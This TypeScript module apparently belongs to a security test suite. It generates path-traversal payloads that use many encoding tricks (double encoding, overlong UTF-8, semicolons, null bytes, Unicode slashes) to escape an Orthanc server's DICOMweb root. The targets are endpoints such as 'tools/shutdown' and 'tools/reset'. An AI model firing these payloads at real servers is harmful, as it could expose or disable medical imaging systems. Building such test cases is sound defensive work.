import { get, INSTANCE, STUDY } from './attack.ts';
import type { AttackGroup, Scope } from './attack.ts';

function bytesOf(text: string): string {
  return Buffer.from(text).toString('latin1');
}

/** Ways to write "one level up" that one server or another understands as such. */
const UP: Readonly<Record<string, readonly string[]>> = {
  'plain dot segments': ['../', '/../', './../', '..//', '....//', '.../', '/./../'],
  'encoded slashes: decoded after the path was checked': ['..%2f', '..%2F', '%2f..%2f', '..%2f%2f'],
  'encoded dots: RFC 3986 6.2.2.2 reads them as dots': [
    '%2e%2e/',
    '%2E%2E/',
    '.%2e/',
    '%2e./',
    '%2e%2e%2f',
    '%2e%2e%2F',
  ],
  'backslashes: slashes to the URL Standard and to Windows': [
    '..\\',
    '..%5c',
    '..%5C',
    '%2e%2e%5c',
    '\\..\\',
    '%5c..%5c',
  ],
  'encoded twice or three times: a proxy on the way decodes once more': [
    ...['..%252f', '%252e%252e/', '%252e%252e%252f', '..%255c', '..%25252f', '..%25%32%66'],
    ...['%25%32%65%25%32%65/', '..%252F', '%25252e%25252e%25252f'],
  ],
  'overlong UTF-8: RFC 3629 10': [
    ...[
      '..%c0%af',
      '%c0%ae%c0%ae/',
      '%c0%ae%c0%ae%c0%af',
      '..%e0%80%af',
      '..%c1%9c',
      '..%c0%2f',
      '%f0%80%80%ae%f0%80%80%ae/',
    ],
    ...['..\u00c0\u00af', '\u00c0\u00ae\u00c0\u00ae/'],
  ],
  'path parameters: Java servers drop what follows a semicolon': [
    ...['..;/', '..;a=b/', '..%3b/', '%2e%2e;/', ';/../', '..;%2f', '.;/../', ';%2f..%2f'],
  ],
  'null bytes, line ends and blanks: cut off or dropped by some': [
    ...[
      '..%00/',
      '.%00./',
      '%00../',
      '..%0a/',
      '..%0d/',
      '..%0d%0a/',
      '..%09/',
      '..%20/',
      '%20../',
      '..%1f/',
      '..%7f/',
    ],
    ...['..\t/', '.\t./', '..\u0000/', '..\u0001/', '..\u000b/', '..\u007f/'],
  ],
  'other dots and slashes of Unicode: folded by NFKC': [
    ...[
      '%ef%bc%8e%ef%bc%8e/',
      '..%ef%bc%8f',
      '%e2%80%a4%e2%80%a4/',
      '..%e2%88%95',
      '..%e2%81%84',
      '%e3%80%82%e3%80%82/',
    ],
    ...[
      bytesOf('．．/'),
      bytesOf('..／'),
      bytesOf('․․/'),
      '%u002e%u002e/',
      '..%u2216',
      '..%u2215',
      '..%uff0f',
    ],
  ],
  'fragments and second queries: cut off by some': [
    '#/../',
    '..#/',
    '%23/../',
    '..%23/',
    '..%3f/',
    '%3f/../',
  ],
};

/** Where the way out begins: at the root, and behind what is allowed. */
const FROM = ['/', `${STUDY}/`, `${INSTANCE}/bulkdata/`, `${INSTANCE}/frames/`];
/** The interfaces of Orthanc that a page would want. */
const GOALS = ['system', 'instances', 'tools/shutdown', 'tools/reset'];

/** Each spelling from the root and from one of the other places; in the long form from each place to each goal. */
function climbing(up: string, index: number, scope: Scope): readonly string[] {
  const from = scope === 'full' ? FROM : [FROM[0], FROM[1 + (index % (FROM.length - 1))]];
  const goals = scope === 'full' ? GOALS : [GOALS[index % GOALS.length]];
  return from.flatMap((start = '/') =>
    goals.map((goal = '') => `${start}${up.repeat(start.split('/').length - 1)}${goal}`),
  );
}

/** Ways out of the DICOMweb root, by what makes them work somewhere. */
export function climbs(scope: Scope): readonly AttackGroup[] {
  return Object.entries(UP).map(([reason, spellings]) => ({
    reason,
    attacks: get(spellings.flatMap((up, index) => climbing(up, index, scope))),
  }));
}
